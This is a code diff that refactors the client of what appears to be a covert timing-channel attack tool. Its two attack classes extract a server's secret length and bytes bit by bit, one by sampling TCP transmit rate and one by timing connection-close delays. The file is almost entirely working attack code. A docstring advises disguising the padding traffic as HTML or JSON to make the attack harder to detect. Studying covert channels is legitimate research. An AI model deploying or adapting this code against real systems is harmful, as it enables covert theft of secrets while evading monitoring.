@@ -2,53 +2,151 @@ import socket
 import multiprocessing as mp
 import time
 import os
-import queue
-
-from functools import reduce
-from operator import or_
+import struct
 
 from .message import *
 from .logger import logger
 
 
+# Number of nop messages sent on each sendall while sampling the tx rate
+NOP_BURST_SIZE = 16
+
+# More data follows each nop burst, MSG_MORE is only available on Linux
+MSG_MORE = getattr(socket, 'MSG_MORE', 0)
+
+# Min time between close event checks in the send loops (ns)
+EXIT_CHECK_PERIOD = 50_000_000
+
+
 class ExitSignal(Exception):
     """Process received close signal"""
     pass
 
 
-def reconstruct_byte(bits):
-    """Reconstruct an integer from a list of bits
+# Updates are sent from the attack processes as raw bytes to avoid pickling,
+# a one byte tag followed by the data.
+UPDATE_TAGS = {
+    "length": b'L',
+    "secret": b'S',
+    "done":   b'D',
+    "error":  b'E',
+    "exit":   b'X',
+}
+UPDATE_TYPES = {tag[0]: typ for typ, tag in UPDATE_TAGS.items()}
+LENGTH_PACKER = struct.Struct("!H")
 
-    Parameters:
-        bits (List[bool]): byte bits
 
-    Returns:
-        int: byte value
+def send_update(conn, typ, data):
+    """Send an update from the attack process
+
+    Parameters:
+        conn (mp.Connection): Pipe write end
+        typ (str): Update type (see UPDATE_TAGS)
+        data (int|bytes|str|None): Update data
     """
-    return reduce(or_, (1<<i for i, bit in enumerate(bits) if bit), 0)
+    tag = UPDATE_TAGS[typ]
 
+    if typ == "length":
+        conn.send_bytes(tag + LENGTH_PACKER.pack(data))
+    elif typ == "secret":
+        conn.send_bytes(tag + data)
+    elif data is None:
+        conn.send_bytes(tag)
+    else:
+        conn.send_bytes(tag + data.encode())
 
 
-def generate_nop_message():
-    """Generate a nop message with random data.
+def recv_update(conn):
+    """Receive an update sent with send_update
+
+    Parameters:
+        conn (mp.Connection): Pipe read end
+
+    Returns:
+        Tuple(str, int|bytes|str|None): (type, data)
+    """
+    buf = conn.recv_bytes()
+    typ = UPDATE_TYPES.get(buf[0])
+
+    if typ == "length":
+        return typ, LENGTH_PACKER.unpack_from(buf, 1)[0]
+    elif typ == "secret":
+        return typ, buf[1:]
+    elif typ == "done":
+        return typ, None
+    elif typ is None:
+        raise ValueError("Unknown update {}".format(buf[:1]))
+    else:
+        return typ, buf[1:].decode()
+
+
+def generate_nop_data():
+    """Generate the payload of a nop message with random data.
     
         Modify this function if you wan't more innocuous looking nop messages
         to make the attack harder to detect, for example html or json data.
   
-        LeakyNopMessage(some_507_bytes_of_json)
+        some_507_bytes_of_json
 
     Returns:
-        LeakyNopMessage
+        bytes: 507 bytes payload, it's packed without validation
     """
-    return LeakyNopMessage(os.urandom(507))
+    return os.urandom(507)
 
 
-class LeakyFlowProc(mp.Process):
+def secret_length_messages():
+    """Serialize the 16 secret length requests
+
+    Returns:
+        Tuple[bytes]: Request for each bit of the length
+    """
+    packer = LeakySecretLengthMessage.PACKER
+    return tuple(
+        packer.pack(LeakySecretLengthMessage.SIZE, LeakySecretLengthMessage.TYPE, bit)
+        for bit in range(16))
+
+
+def secret_byte_messages(buf, index):
+    """Generate the 8 bit requests for one secret byte. They only differ on
+    the last byte (the bit), so they are packed in place into a reusable
+    buffer instead of serializing a new message for each bit.
+
+    Parameters:
+        buf (bytearray): LeakySecretMessage.SIZE bytes buffer
+        index (int): Index of the secret byte
+
+    Yields:
+        Tuple[int, bytearray]: (bit, buf with the request for that bit)
+    """
+    LeakySecretMessage.PACKER.pack_into(buf, 0,
+        LeakySecretMessage.SIZE, LeakySecretMessage.TYPE, index, 0)
+
+    for bit in range(8):
+        buf[-1] = bit
+        yield bit, buf
+
+
+def fill_nop_messages(buf):
+    """Pack new nop messages in place into a preallocated buffer, one for
+    every LeakyNopMessage.SIZE bytes, so the payload can be changed without
+    allocating a new buffer for each send.
+
+    Parameters:
+        buf (bytearray): Nop messages buffer
+    """
+    packer = LeakyNopMessage.PACKER
+    for offset in range(0, len(buf), LeakyNopMessage.SIZE):
+        packer.pack_into(buf, offset, LeakyNopMessage.SIZE, LeakyNopMessage.TYPE,
+            generate_nop_data())
+
+
+class LeakyFlowProc:
     
-    def __init__(self, result_q, close_event, host, port, low, high, settle_time, sample_time):
+    def __init__(self, result_conn, close_event, host, port, low, high, settle_time, sample_time):
         """
         Parameters:
-            result_q (mp.Queue): Queue where the extracted bits values are sent
+            result_conn (mp.Connection): Pipe end where the extracted bits values
+                are sent with send_update()
                     
                     ("length", secret_length)
                     ("secret", b'a')
@@ -72,8 +170,7 @@ class LeakyFlowProc(mp.Process):
                 tx rate sampling
             sample_time (float): Tx rate sample time after settle_time
         """
-        super().__init__()
-        self.result_q = result_q
+        self.result_conn = result_conn
         self.close_event = close_event
         self.host = host
         self.port = port
@@ -85,44 +182,66 @@ class LeakyFlowProc(mp.Process):
         # When sampling rates above this one are considered high, below are low
         self.limit_rate = self.low + (self.high-self.low)/2
 
-        # Generate a nop message only once to save a little cpu.
-        self.nop_msg = generate_nop_message().to_bytes()
+        # While sampling nop messages are sent in bursts to save syscalls,
+        # the server only cares about the total rate. The burst buffer is
+        # allocated once and its nop messages refreshed on each bit request.
+        self._nop_burst = bytearray(LeakyNopMessage.SIZE*NOP_BURST_SIZE)
+        fill_nop_messages(self._nop_burst)
+
+        # Length requests are serialized only once, secret ones are packed
+        # in place by secret_byte_messages().
+        self._length_msgs = secret_length_messages()
+        self._secret_msg = bytearray(LeakySecretMessage.SIZE)
        
 
     def sample_speed(self, sock):
         """ """
+        fill_nop_messages(self._nop_burst)
+
+        # Local references for the loops below, this is the sampling hot path,
+        # times are kept as integer nanoseconds from the monotonic clock.
+        send   = sock.sendall
+        msg    = self._nop_burst
+        more   = MSG_MORE
+        now_fn = time.monotonic_ns
+        is_set = self.close_event.is_set
+        settle = int(self.settle_time*1e9)
+        sample = int(self.sample_time*1e9)
+
         # Wait settle time.
-        start = time.time()
+        start = now_fn()
+        next_check = start
         while True:
 
             # Check exit signal here because this is where the process is
-            # blocked most of the time
-            if self.close_event.is_set():
-                raise ExitSignal()
-
-            sock.sendall(self.nop_msg)
-            now = time.time()
-            if now-start > self.settle_time:
+            # blocked most of the time, but only every EXIT_CHECK_PERIOD
+            send(msg, more)
+            now = now_fn()
+            if now >= next_check:
+                if is_set():
+                    raise ExitSignal()
+                next_check = now + EXIT_CHECK_PERIOD
+
+            if now-start > settle:
                 break
 
         # Start sampling
-        start = time.time()
-        now   = start + 0.01
+        start = now_fn()
         sent = 0
         while True:
 
-            # Check exit signal here because this is where the process is
-            # blocked most of the time
-            if self.close_event.is_set():
-                raise ExitSignal()
-
-            sock.sendall(self.nop_msg)
+            send(msg, more)
             sent+=1
-            now = time.time()
-            if now-start > self.sample_time:
+            now = now_fn()
+            if now >= next_check:
+                if is_set():
+                    raise ExitSignal()
+                next_check = now + EXIT_CHECK_PERIOD
+
+            if now-start > sample:
                 break
 
-        speed = (sent*len(self.nop_msg))/(now-start)
+        speed = (sent*len(msg)*1_000_000_000)/(now-start)
         
         return speed > self.limit_rate
 
@@ -136,14 +255,13 @@ class LeakyFlowProc(mp.Process):
         Returns:
             int: Secret's length
         """
-        bits = []
+        length = 0
         for bit in range(16):
-            length_msg = LeakySecretLengthMessage(bit)
-            sock.sendall(length_msg.to_bytes())
-            bits.append(self.sample_speed(sock))
-            logger.debug("Secret Length {}: {}".format(bit, bits[-1]))
+            sock.sendall(self._length_msgs[bit])
+            high = self.sample_speed(sock)
+            length |= high << bit
+            logger.debug("Secret Length {}: {}".format(bit, high))
 
-        length = reconstruct_byte(bits)
         logger.debug("Secret Length {}".format(length))
         return length
 
@@ -155,15 +273,15 @@ class LeakyFlowProc(mp.Process):
             sock (socket.Socket): Open socket
             index (int): Index of the secret
         """
-        bits = []
+        value = 0
 
-        for bit in range(8):
-            secret_msg = LeakySecretMessage(index, bit)
-            sock.sendall(secret_msg.to_bytes())
-            bits.append(self.sample_speed(sock))
-            logger.debug("Secret {}.{}: {}".format(index, bit, bits[-1]))
+        for bit, secret_msg in secret_byte_messages(self._secret_msg, index):
+            sock.sendall(secret_msg)
+            high = self.sample_speed(sock)
+            value |= high << bit
+            logger.debug("Secret {}.{}: {}".format(index, bit, high))
 
-        return bytes([reconstruct_byte(bits)])
+        return bytes((value,))
 
 
     def run(self):
@@ -178,11 +296,13 @@ class LeakyFlowProc(mp.Process):
             try:
                 sock.connect((self.host, self.port))
             except ConnectionRefusedError:
-                self.result_q.put(("error", "Connection refused"))
+                send_update(self.result_conn, "error", "Connection refused")
                 return
 
+            # Flow modulation only depends on the aggregate tx rate, let the
+            # kernel coalesce the nop bursts into full segments.
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)    
-            sock.setsockopt(socket.SOL_TCP, socket.TCP_NODELAY, 1)
+            sock.setsockopt(socket.SOL_TCP, socket.TCP_NODELAY, 0)
             
             # Set attack mode
             msg = LeakyModeMessage(LeakyAttackMode.FLOW_MODULATION, self.low, self.high) 
@@ -192,39 +312,40 @@ class LeakyFlowProc(mp.Process):
             try:
                 secret_length = self.get_secret_length(sock) 
             except (ConnectionError, BrokenPipeError):
-                self.result_q.put(("error", "Error: Connection closed"))
+                send_update(self.result_conn, "error", "Error: Connection closed")
                 return
             except ExitSignal:
-                self.result_q.put(("exit", "exit request"))
+                send_update(self.result_conn, "exit", "exit request")
                 return
 
-            self.result_q.put(("length", secret_length))
+            send_update(self.result_conn, "length", secret_length)
 
             # Get all secret bytes
             try:
                 for index in range(secret_length):
                     secret_byte = self.get_secret_byte(sock, index)
-                    self.result_q.put(("secret", secret_byte))
+                    send_update(self.result_conn, "secret", secret_byte)
             except (ConnectionError, BrokenPipeError):
-                self.result_q.put(("error", "Error: Connection closed"))
+                send_update(self.result_conn, "error", "Error: Connection closed")
                 return
             except ExitSignal:
-                self.result_q.put(("exit", "exit request"))
+                send_update(self.result_conn, "exit", "exit request")
                 return
 
         sock.close()
-        self.result_q.put(("done", None))
+        send_update(self.result_conn, "done", None)
 
         
 
 
-class LeakyCloseProc(mp.Process): 
+class LeakyCloseProc:
 
-    def __init__(self, result_q, close_event, host, port, low, high):
+    def __init__(self, result_conn, close_event, host, port, low, high):
         """
         Parameters:            
         
-            result_q (mp.Queue): Queue where the extracted bits values are sent
+            result_conn (mp.Connection): Pipe end where the extracted bits values
+                are sent with send_update()
                     
                     ("length", secret_length)
                     ("secret", b'a')
@@ -245,9 +366,7 @@ class LeakyCloseProc(mp.Process):
             low (int): Speed to signal a low bit (in bytes/sec)
             high (int): Speed to signal a high bit (in bytes/sec)
         """
-        super().__init__()
-
-        self.result_q = result_q
+        self.result_conn = result_conn
         self.close_event = close_event
         self.host = host
         self.port = port
@@ -257,15 +376,22 @@ class LeakyCloseProc(mp.Process):
         # Tx rate of data (nop messages) sent to the server to keep the 
         # connection alive
         self.limit_delay = (self.low + (self.high-self.low)/2)/1000
+        self.limit_delay_ns = int(self.limit_delay*1e9)
+
+        # Nop message buffer allocated only once, and refreshed for each
+        # connection.
+        self.nop_msg = bytearray(LeakyNopMessage.SIZE)
 
-        # Generate a nop message only once to save a little cpu.
-        self.nop_msg = generate_nop_message().to_bytes()
+        # Length requests are serialized only once, secret ones are packed
+        # in place by secret_byte_messages().
+        self._length_msgs = secret_length_messages()
+        self._secret_msg = bytearray(LeakySecretMessage.SIZE)
     
     def time_close_delay(self, msg, max_delay=100):
         """Send message through socket and measure the server connection close delay.
 
         Parameters:
-            msg:
+            msg (bytes|bytearray): Serialized request
 
         Returns:
             bool:
@@ -275,7 +401,8 @@ class LeakyCloseProc(mp.Process):
             TimeoutError: Connection wasn't closed by the server before max_delay
             ConnectionRefusedError: Server not listening
         """
-        max_delay = 3*self.high
+        # Close delays are in ms
+        max_delay = 3*self.high/1000
 
         # This could raise ConnectionRefusedError
         try:
@@ -290,40 +417,52 @@ class LeakyCloseProc(mp.Process):
         mode_msg = LeakyModeMessage(LeakyAttackMode.CLOSE_DELAY, self.low, self.high)
         sock.sendall(mode_msg.to_bytes())
 
+        # Refresh the nop messages now, the close delay is timed from the request
+        fill_nop_messages(self.nop_msg)
+
         # Send request
-        sock.sendall(msg.to_bytes())
-        start = time.time()
+        sock.sendall(msg)
+
+        send   = sock.sendall
+        nop    = self.nop_msg
+        now_fn = time.monotonic_ns
+        is_set = self.close_event.is_set
+        max_delay_ns = int(max_delay*1e9)
+        start  = now_fn()
+        next_check = start
 
         # Send nop messages to keep alive the connection, until the server closes it.
         while True:
             try:
-                sock.sendall(self.nop_msg)
+                send(nop)
             except (ConnectionError, BrokenPipeError):
-                end = time.time()
+                end = now_fn()
                 break
 
+            now = now_fn()
+
             # Best place to check for exit signals
-            if self.close_event.is_set():
-                raise ExitSignal()
+            if now >= next_check:
+                if is_set():
+                    raise ExitSignal()
+                next_check = now + EXIT_CHECK_PERIOD
 
             # Check for max_delay 
-            now = time.time()
-            if now-start > max_delay:
+            if now-start > max_delay_ns:
                 sock.close()
                 raise TimeoutError("")
        
-        return (end-start) > self.limit_delay
+        return (end-start) > self.limit_delay_ns
     
     
     def get_secret_length(self):
         """Obtain secret length (16 bits)"""
-        bits = []
+        length = 0
         for bit in range(16):
-            length_msg = LeakySecretLengthMessage(bit)
-            bits.append(self.time_close_delay(length_msg))
-            logger.debug("Secret Legth {}: {}".format(bit, bits[-1]))
+            high = self.time_close_delay(self._length_msgs[bit])
+            length |= high << bit
+            logger.debug("Secret Legth {}: {}".format(bit, high))
             
-        length = reconstruct_byte(bits)
         logger.debug("Secret Length {}".format(length))
         return length
 
@@ -334,14 +473,14 @@ class LeakyCloseProc(mp.Process):
         Parameters:
             index (int): Index of the secret
         """
-        bits = []
+        value = 0
 
-        for bit in range(8):
-            secret_msg = LeakySecretMessage(index, bit)
-            bits.append(self.time_close_delay(secret_msg))
-            logger.debug("Secret {}.{}: {}".format(index, bit, bits[-1]))
+        for bit, secret_msg in secret_byte_messages(self._secret_msg, index):
+            high = self.time_close_delay(secret_msg)
+            value |= high << bit
+            logger.debug("Secret {}.{}: {}".format(index, bit, high))
         
-        return bytes([reconstruct_byte(bits)])
+        return bytes((value,))
 
 
     def run(self):
@@ -351,42 +490,53 @@ class LeakyCloseProc(mp.Process):
         try:
             secret_length = self.get_secret_length() 
         except TimeoutError:
-            self.result_q.put(("error", "secret_length request timedout"))
+            send_update(self.result_conn, "error", "secret_length request timedout")
             return
 
         except ConnectionRefusedError:
-            self.result_q.put(("error", "Connection refused by host"))
+            send_update(self.result_conn, "error", "Connection refused by host")
             return
 
         except ExitSignal:
-            self.result_q.put(("exit", "exit request"))
+            send_update(self.result_conn, "exit", "exit request")
             return
 
-        self.result_q.put(("length", secret_length))
+        send_update(self.result_conn, "length", secret_length)
 
         # Get all secret bytes
         try:
             for index in range(secret_length):
                 secret_byte = self.get_secret_byte(index)
-                self.result_q.put(("secret", secret_byte))
+                send_update(self.result_conn, "secret", secret_byte)
         
         except TimeoutError:
             print("timeout")
-            self.result_q.put(("error", "secret bit request timedout"))
+            send_update(self.result_conn, "error", "secret bit request timedout")
             return
         
         except ConnectionRefusedError:
             print("refused")
-            self.result_q.put(("error", "Connection refused by host"))
+            send_update(self.result_conn, "error", "Connection refused by host")
             return
         
         except ExitSignal:
             print("exit signal")
-            self.result_q.put(("exit", "exit request"))
+            send_update(self.result_conn, "exit", "exit request")
             return
 
         print
-        self.result_q.put(("done", None))
+        send_update(self.result_conn, "done", None)
+
+
+def run_attack(attack_class, *args):
+    """Attack process entry point, the attack object is built inside the
+    process so only its plain arguments have to be sent to it.
+
+    Parameters:
+        attack_class (LeakyFlowProc|LeakyCloseProc):
+        args: attack_class initialization arguments
+    """
+    attack_class(*args).run()
 
 
 class LeakyClient:
@@ -412,27 +562,29 @@ class LeakyClient:
         self.settle_time = settle_time
         self.sample_time = sample_time
 
-        # Queue used to receive data from the attack process, and event
+        # Pipe used to receive data from the attack process, and event
         # to signal those same proesses to exit.
-        self.result_q = mp.Queue(2000)
+        self.result_conn, result_conn = mp.Pipe(duplex=False)
         self.close_event = mp.Event()
 
         # Initialize process
         if self.mode == LeakyAttackMode.FLOW_MODULATION:
-            self.proc = LeakyFlowProc(
-                self.result_q,
+            self.proc = mp.Process(target=run_attack, args=(
+                LeakyFlowProc,
+                result_conn,
                 self.close_event, 
                 host, port, low, high, 
                 settle_time, sample_time
-            )
+            ))
 
         elif self.mode == LeakyAttackMode.CLOSE_DELAY:
-            self.proc = LeakyCloseProc(
-                self.result_q,
+            self.proc = mp.Process(target=run_attack, args=(
+                LeakyCloseProc,
+                result_conn,
                 self.close_event, 
                 host, port,
                 low, high
-            ) 
+            ))
         
         else:
             raise ValueError("Unknown attack mode")
@@ -441,7 +593,7 @@ class LeakyClient:
         self.secret_length = None
 
         # Secret bytes received until now
-        self.secret = b''
+        self._secret_buf = bytearray()
 
         # Received all the secret bytes succesfully
         self.finished = False
@@ -451,18 +603,28 @@ class LeakyClient:
         self.error_msg = ""
 
     def _get_updates(self, block=True, timeout=None):
-        """Get update from the process result queue"""
+        """Get update from the process result pipe"""
+        if not block:
+            timeout = 0
+
         while True:
-            try: 
-                typ, data = self.result_q.get(block, timeout)
-            except queue.Empty:
+            if not self.result_conn.poll(timeout):
+                break
+
+            try:
+                typ, data = recv_update(self.result_conn)
+            except EOFError:
+                # Attack process exited, after finishing or crashing
+                if not self.finished:
+                    self.error = True
+                    self.error_msg = "Attack process exited unexpectedly"
                 break
 
             if typ == "length":
                 self.secret_length = data
 
             elif typ == "secret":
-                self.secret += data
+                self._secret_buf += data
 
             elif typ == "done":
                 self.finished = True
@@ -499,7 +661,7 @@ class LeakyClient:
         if self.error:
             raise ConnectionError(self.error_msg)
 
-        return self.secret, self.finished
+        return bytes(self._secret_buf), self.finished
 
     def __enter__(self):
         """ """